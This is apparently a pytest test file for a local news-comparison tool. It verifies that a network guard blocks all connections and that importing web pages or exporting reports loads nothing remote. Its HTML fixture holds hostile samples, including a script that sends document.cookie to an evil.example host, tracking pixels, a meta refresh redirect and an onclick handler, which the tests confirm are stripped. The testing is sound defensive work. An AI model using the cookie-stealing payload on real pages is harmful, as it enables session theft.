"""No network, ever: the guard that enforces it for the whole suite, and the places it matters most.

tests/conftest.py installs tests/netguard.py for the whole run; these tests prove the guard really
fires (so a silent suite means something), that it fails a test even when the code under test
swallows the error, that importing a web page fetches none of its images, scripts, styles or
frames, and that the exported report references nothing remote.
"""
from __future__ import annotations

import os
import socket
import subprocess
import sys
import textwrap
from html.parser import HTMLParser
from pathlib import Path

import pytest

from conftest import NETGUARD_SITE, PROJECT, write_article
from core.analysis import Version
from core.compare import compare
from core.library import Library
from core.report import to_html
from netguard import LOG_ENV, NetworkBlocked, NetworkGuard


def test_the_guard_is_active_for_the_whole_suite(network_guard: NetworkGuard) -> None:
    with network_guard.expected() as attempts:
        with pytest.raises(NetworkBlocked):
            socket.create_connection(("example.com", 80), timeout=1)
        with pytest.raises(NetworkBlocked):
            socket.getaddrinfo("example.com", 443)
        with pytest.raises(NetworkBlocked):
            socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        with pytest.raises(NetworkBlocked):
            socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        with pytest.raises(NetworkBlocked):
            socket.socket()                                   # the default family is AF_INET
    assert len(attempts) == 5


def test_urllib_cannot_fetch_anything(network_guard: NetworkGuard) -> None:
    import urllib.request

    with network_guard.expected() as attempts:
        with pytest.raises(NetworkBlocked):
            urllib.request.urlopen("http://127.0.0.1:9/", timeout=1)
    assert attempts


def test_unix_sockets_stay_allowed(tmp_path: Path) -> None:
    left, right = socket.socketpair()
    with left, right:
        left.sendall(b"ok")
        assert right.recv(2) == b"ok"
    address = str(tmp_path / "s")
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
        server.bind(address)
        server.listen(1)
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
            client.connect(address)


def test_a_swallowed_attempt_still_fails_the_test(tmp_path: Path) -> None:
    """Code under test may catch the guard's exception; the fixture fails the test anyway."""
    test_file = tmp_path / "test_swallow.py"
    test_file.write_text(textwrap.dedent("""
        import socket

        def test_swallows():
            try:
                socket.create_connection(("example.com", 80), timeout=1)
            except Exception:
                pass
    """))
    env = {**os.environ, "PYTHONPATH": f"{PROJECT}{os.pathsep}{PROJECT / 'tests'}"}
    result = subprocess.run(
        [sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "-p", "conftest", "--rootdir", str(tmp_path),
         str(test_file)], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=120)
    assert result.returncode != 0, result.stdout
    assert "tried to reach the network" in result.stdout
    assert "create_connection" in result.stdout


PAGE = """<!DOCTYPE html><html><head>
<title>Harbour wall breached</title>
<link rel="stylesheet" href="https://cdn.example/site.css">
<link rel="preload" href="//fonts.example/font.woff2">
<script src="https://tracker.example/track.js"></script>
<script>fetch('https://evil.example/steal?c=' + document.cookie); var exfiltrate = 1;</script>
<style>@import url(https://cdn.example/more.css); body { background: url(http://evil.example/bg.png) }</style>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
</head><body>
<article>
<h1>Harbour wall breached</h1>
<p>Storm waves broke the harbour wall in three places overnight, flooding the quay and the fish market.</p>
<img src="http://tracker.example/pixel.gif" width="1" height="1">
<picture><source srcset="https://images.example/wall.webp"><img src="https://images.example/wall.jpg" alt="The broken wall"></picture>
<iframe src="https://video.example/embed/123"></iframe>
<object data="https://evil.example/movie.swf"></object>
<video src="https://video.example/a.mp4" poster="https://images.example/p.jpg"></video>
<p>The harbour master said repairs would start once the tide turned on Tuesday.</p>
<p onclick="alert(1)">Residents were asked to keep away from the sea front.</p>
</article>
</body></html>
"""


def test_importing_a_web_page_fetches_nothing_and_keeps_no_script(tmp_path: Path,
                                                                   network_guard: NetworkGuard) -> None:
    page = tmp_path / "in" / "wall.html"
    page.parent.mkdir()
    page.write_text(PAGE, encoding="utf-8")
    with Library.open(tmp_path / "library.db") as library:
        job = library.imports.start([page])
        list(job)
        assert len(job.summary.imported) == 1, job.summary.problems
        article = library.articles.get(job.summary.imported[0].id)
    assert network_guard.take() == []                # this process and the reader processes
    assert "Storm waves broke the harbour wall" in article.body
    assert "keep away from the sea front" in article.body
    for leaked in ("fetch(", "exfiltrate", "document.cookie", "@import", "background:", "track.js", "alert(1)"):
        assert leaked not in article.body, f"{leaked!r} from a script or style was stored as text"


class _References(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.references: list[tuple[str, str, str]] = []
        self.csp: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name in ("src", "href", "srcset", "data", "poster", "action", "background"):
                self.references.append((tag, name, value or ""))
            if tag == "meta" and name == "content" and dict(attrs).get("http-equiv") == "Content-Security-Policy":
                self.csp.append(value or "")


def test_the_report_references_nothing_remote(tmp_path: Path) -> None:
    a = ("Storm waves broke the harbour wall in three places, see https://evil.example/pic.png and "
         '<img src="http://tracker.example/p.gif">.\n\nThe harbour master said repairs start on Tuesday.')
    b = ("Storm waves broke the harbour wall in two places, see https://evil.example/pic.png and "
         '<link href="https://cdn.example/s.css">.\n\nThe harbour master said repairs start on Monday.')
    page = to_html(compare([Version.of(a), Version.of(b)]), title="Wall <img src=http://x.example/t.gif>")
    parser = _References()
    parser.feed(page)
    remote = [r for r in parser.references if r[2].lower().startswith(("http:", "https:", "//", "ftp:"))]
    assert remote == [], f"the report loads remote resources: {remote}"
    assert parser.references == []                          # in fact it references nothing at all
    assert parser.csp and "default-src 'none'" in parser.csp[0]
    assert "https://evil.example/pic.png" in page            # the URL is kept, as text


def test_the_pdf_export_fetches_nothing(qtbot, tmp_path: Path, network_guard: NetworkGuard) -> None:
    from gui.export import export

    a = 'The wall broke in three places <img src="http://tracker.example/p.gif">.\n\nRepairs start on Tuesday.'
    b = 'The wall broke in two places <img src="http://tracker.example/p.gif">.\n\nRepairs start on Monday.'
    comparison = compare([Version.of(a), Version.of(b)])
    target = tmp_path / "report.pdf"
    export(comparison, target, "Wall", {})
    assert target.stat().st_size > 0
    assert network_guard.take() == []


def test_the_cli_compare_and_import_run_without_network(tmp_path: Path) -> None:
    """The guard in real CLI processes (and the reader processes they spawn), via sitecustomize."""
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "wall.html").write_text(PAGE, encoding="utf-8")
    write_article(folder, "b.txt", "Storm waves broke the harbour wall in two places overnight.", title="Wall")
    log = tmp_path / "attempts.log"
    env = {**os.environ, "PYTHONPATH": str(NETGUARD_SITE), LOG_ENV: str(log)}
    db = tmp_path / "library.db"
    report = tmp_path / "r.html"
    for args in (["--db", str(db), "import", str(folder)],
                 ["compare", str(folder / "wall.html"), str(folder / "b.txt"), "--html", str(report)]):
        result = subprocess.run([sys.executable, "main.py", *args], cwd=PROJECT, env=env, capture_output=True,
                                text=True, timeout=120)
        assert result.returncode == 0, result.stderr[-2000:]
    assert not log.exists(), log.read_text()
    assert report.stat().st_size > 0


def test_the_subprocess_guard_reports_to_the_log(tmp_path: Path) -> None:
    log = tmp_path / "attempts.log"
    env = {**os.environ, "PYTHONPATH": str(NETGUARD_SITE), LOG_ENV: str(log)}
    code = "import socket\ntry:\n    socket.create_connection(('example.com', 80))\nexcept Exception as e:\n    print(type(e).__name__)"
    result = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=60)
    assert result.stdout.strip() == "NetworkBlocked"
    assert "create_connection" in log.read_text()


def _try_to_connect() -> str:
    try:
        socket.create_connection(("example.com", 80), timeout=1)
    except Exception as exc:                     # the guard raises; a reader would swallow it like this
        return type(exc).__name__
    return "connected"


def test_spawned_processes_are_guarded_too(network_guard: NetworkGuard) -> None:
    """The import's reader workers are spawned processes: the guard reaches them and they report."""
    import multiprocessing

    with network_guard.expected() as attempts:
        with multiprocessing.get_context("spawn").Pool(1) as pool:
            assert pool.apply(_try_to_connect) == "NetworkBlocked"
    assert any("create_connection" in line for line in attempts)
